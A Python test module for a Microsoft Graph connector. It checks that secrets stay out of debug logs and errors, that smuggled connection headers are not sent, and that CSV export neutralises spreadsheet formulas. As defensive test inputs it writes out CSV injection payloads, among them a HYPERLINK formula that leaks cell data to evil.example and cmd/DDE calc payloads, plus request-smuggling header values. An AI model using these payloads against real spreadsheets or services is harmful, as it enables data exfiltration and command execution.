"""What leaves graph-magic: secrets in DEBUG logs and errors, headers on the wire, CSV cells.

Secrets: each case sends a request and gets an answer holding one of the secret shapes Graph
uses (``secretText``, ``passwordProfile.password``, ``keyCredentials[].key``, ``newPassword``,
``client_secret``/``refresh_token``/``access_token``, ``Authorization``/``Cookie``/
``Set-Cookie``, a SAS ``sig``), with logging at DEBUG in the detailed format; the secret is in
no log record (the graph_magic handler's output and every record the root logger sees) and in
no error. Cell headers: what a cell writes for framing and connection headers is never what
goes on the wire. CSV: a hostile Graph's text that a spreadsheet would run is exported as text.
"""

from __future__ import annotations

import csv
import io
import logging
import tempfile
from pathlib import Path
from typing import Any

import httpx

from graph_magic.connector.config import LoggingSettings
from graph_magic.connector.telemetry import configure_logging
from graph_magic.errors import GraphAPIError, GraphAuthError
from graph_magic.notebook.csv_export import CsvExporter
from tests.reliability.hostile_kit import TOKEN, Case, CaseResult, Expect, Wire, check, drive
from tests.reliability.hostile_pages import FIRST

SECRET = "Zq7-very-secret-value-123"
KEY_BLOB = "MIIDBTCCAe2gAwIBAgIQN33ROaIJ6bJBWDCxtmJEbjANBgkqhkiG9w0BAQsFADAt"
DEBUG = {"logging": {"enabled": True, "format": "detailed", "auth": True}}


class _Records(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


def secret_case(
    name: str,
    ask: dict[str, Any],
    answer: Any,
    secret: str = SECRET,
    *,
    status: int = 200,
    headers: dict[str, str] | None = None,
    expect: Expect | None = None,
) -> Case:
    """``ask`` answered ``answer``, logged at DEBUG; ``secret`` is never logged nor raised."""

    async def run(result: CaseResult) -> None:
        stream, records = io.StringIO(), _Records()
        root = logging.getLogger()
        level = root.level
        root.addHandler(records)
        root.setLevel(logging.DEBUG)
        wire = Wire(lambda r: httpx.Response(status, json=answer, headers=headers or {}))
        try:
            configure_logging(LoggingSettings(**DEBUG["logging"]), stream=stream)
            call = {"method": "GET", **ask}
            outcome = await drive(
                result, wire, lambda c: c.perform_action("u", "x", None, call), **DEBUG
            )
        finally:
            configure_logging(LoggingSettings())
            root.removeHandler(records)
            root.setLevel(level)
        check(result, expect or Expect(None, sent=1), outcome)
        logged = "\n".join([stream.getvalue(), *records.lines])
        if "-->" not in logged:
            result.problems.append("nothing was logged: the case proves nothing")
        for where, text in (("a log record", logged), ("the error", str(result.error or ""))):
            if secret in text:
                result.problems.append(f"the secret is in {where}")

    return Case(name, run)


def _post(endpoint: str, body: Any, **headers: str) -> dict[str, Any]:
    return {"method": "POST", "endpoint": endpoint, "body": body, "headers": headers}


SECRET_CASES = [
    secret_case(
        "addPassword's secretText",
        _post("/applications/a/addPassword", {}),
        {"secretText": SECRET, "hint": "Zq7"},
    ),
    secret_case(
        "secretText in a list of credentials",
        {"endpoint": "/applications"},
        {"value": [{"passwordCredentials": [{"secretText": SECRET}]}]},
    ),
    secret_case(
        "keyCredentials' key",
        _post("/applications/a/addKey", {"keyCredential": {"key": KEY_BLOB}}),
        {"keyId": "k"},
        KEY_BLOB,
    ),
    secret_case(
        "passwordProfile.password",
        _post("/users", {"passwordProfile": {"password": SECRET}}),
        {"id": "u"},
    ),
    secret_case(
        "changePassword's new and current",
        _post("/me/changePassword", {"currentPassword": "0ld-" + SECRET, "newPassword": SECRET}),
        {},
    ),
    secret_case(
        "client_secret, refresh_token, access_token in JSON",
        _post("/x", {"client_secret": SECRET}),
        {"refresh_token": SECRET, "access_token": SECRET},
    ),
    secret_case(
        "a form body with client_secret",
        {
            **_post("/x", f"grant_type=x&client_secret={SECRET}"),
            "headers": {"Content-Type": "application/x-www-form-urlencoded"},
        },
        {},
    ),
    secret_case(
        "synchronization secrets",
        _post("/x", {"value": [{"key": "SecretToken", "value": SECRET}]}),
        {},
    ),
    secret_case(
        "the token in Authorization", {"endpoint": "/me"}, {"id": "me"}, TOKEN + "-is-long-enough"
    ),
    secret_case(
        "a cell's own Authorization",
        {"endpoint": "/me", "headers": {"Authorization": f"Bearer {SECRET}"}},
        {"id": "me"},
    ),
    secret_case(
        "a cell's Cookie",
        {"endpoint": "/me", "headers": {"Cookie": f"session={SECRET}"}},
        {"id": "me"},
    ),
    secret_case(
        "Set-Cookie in the answer",
        {"endpoint": "/me"},
        {"id": "me"},
        headers={"Set-Cookie": f"s={SECRET}; Secure"},
    ),
    secret_case(
        "a SAS signature in the URL",
        {"endpoint": f"/reports/x?sig={SECRET}&se=2030"},
        {"value": []},
    ),
    secret_case(
        "access_token in the query", {"endpoint": f"/me?access_token={SECRET}"}, {"id": "me"}
    ),
    secret_case(
        "a 400 answer holding the secret member",
        _post("/users", {"passwordProfile": {"password": SECRET}}),
        {"error": {"code": "BadRequest", "message": "invalid", "innerError": {"password": SECRET}}},
        status=400,
        expect=Expect(Exception, sent=1),
    ),
]


SECRET_CASES += [
    secret_case(
        f"a {status} repeating the sent {where} in its prose",
        _post("/users", body) if where != "form field" else form,
        {"error": {"code": "BadRequest", "message": f"The value '{SECRET}' is not allowed."}},
        status=status,
        expect=Expect(GraphAPIError, "is not allowed", sent=1),
    )
    for status in (400, 403)
    for where, body, form in (
        ("password", {"passwordProfile": {"password": SECRET}}, None),
        ("secretText", {"passwordCredential": {"secretText": SECRET}}, None),
        (
            "form field",
            None,
            {
                **_post("/x", f"grant_type=x&client_secret={SECRET}"),
                "headers": {"Content-Type": "application/x-www-form-urlencoded"},
            },
        ),
    )
]


async def _token_with_a_line_break(result: CaseResult) -> None:
    """A pasted token that kept a line break (in the YAML or $GRAPH_TOKEN)."""
    wire = Wire(lambda r: httpx.Response(200, json={"id": "me"}))
    wire.own_provider = True  # the system's bearer provider, not the fake
    bad = f"abc\n{SECRET}"
    outcome = await drive(
        result, wire, lambda c: c.perform_action("u", "x", None, {"endpoint": "/me"}), token=bad
    )
    check(result, Expect(GraphAuthError, "space or a line break", sent=0), outcome)
    if SECRET in str(outcome):
        result.problems.append("the error shows the token")


SECRET_CASES.append(Case("a bearer token with a line break", _token_with_a_line_break))


# --------------------------------------------------------------------------- cell headers

CELL_HEADERS = {
    "Content-Length": "5",
    "Transfer-Encoding": "chunked",
    "Host": "evil.example",
    "Connection": "upgrade",
    "Upgrade": "h2c",
    "Keep-Alive": "timeout=600",
    "TE": "trailers",
    "Trailer": "X-Evil",
    "Proxy-Connection": "keep-alive",
}


def header_case(name: str, value: str, method: str = "POST") -> Case:
    """A cell's ``name: value`` header (lower-cased, as a paste may have it): the wire never
    carries it as written."""

    async def run(result: CaseResult) -> None:
        wire = Wire(lambda r: httpx.Response(201 if method == "POST" else 200, json={"id": "x"}))
        call = {"method": method, "endpoint": "/users", "headers": {name.lower(): value}}
        if method == "POST":
            call["body"] = {"displayName": "x"}
        outcome = await drive(result, wire, lambda c: c.perform_action("u", "x", None, call))
        check(result, Expect(None, sent=1), outcome)
        for request in result.wire:
            if request.headers.get(name) == value:
                result.problems.append(f"{name}: {value} was sent as written")
            if request.url.host != "graph.microsoft.com" or "authorization" not in request.headers:
                result.problems.append("the request did not go to Graph with its token")

    return Case(f"{method} with {name}", run)


HEADER_CASES = [
    header_case(name, value, method)
    for name, value in CELL_HEADERS.items()
    for method in ("GET", "POST")
]


# --------------------------------------------------------------------------- CSV formulas

FORMULAS = {
    "=HYPERLINK": '=HYPERLINK("https://evil.example?d="&A1,"x")',
    "+cmd": "+cmd|' /C calc'!A0",
    "-formula": "-2+3+cmd|' /C calc'!A0",
    "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "leading space": " =1+1",
    "no-break space": "\u00a0=1+1",
    "zero-width space": "\u200b=1+1",
    "BOM": "\ufeff=1+1",
    "in a nested member": "=1+1",
    "in a column name": "=1+1",
}
PLAIN = {"-5": "-5", "+1.5": "+1.5", "1e5": "1e5", "text": "Contoso"}


def csv_case(name: str, value: str) -> Case:
    """A hostile Graph page exported with ``--csv``'s exporter: the cell is text, not a formula."""

    async def run(result: CaseResult) -> None:
        item: dict[str, Any] = {"id": "1", "field": value}
        if name == "in a nested member":
            item = {"id": "1", "address": {"street": value}}
        if name == "in a column name":
            item = {"id": "1", value: "x"}
        wire = Wire(
            lambda r: httpx.Response(200, json={"value": [item]}) if str(r.url) == FIRST else None
        )
        with tempfile.TemporaryDirectory() as folder:
            target = Path(folder) / "out.csv"

            async def export(conn: Any) -> Any:
                with CsvExporter(target) as exporter:
                    async for page in conn.iter_pages("/users"):
                        exporter.write_items(page.items)
                return {"response": {"data": {"value": [item]}}}

            check(result, Expect(None, kept=1, sent=1), await drive(result, wire, export))
            with target.open(newline="", encoding="utf-8") as written_file:
                cells = [c for row in csv.reader(written_file) for c in row]
        written = [c for c in cells if c.lstrip("'") == value]
        if name in PLAIN and written != [value]:
            result.problems.append(f"the plain value was written as {written}")
        if name not in PLAIN and written != ["'" + value]:
            result.problems.append(f"the formula was written as {written}, not as text")

    return Case(name, run)


CSV_CASES = [csv_case(name, value) for name, value in {**FORMULAS, **PLAIN}.items()]
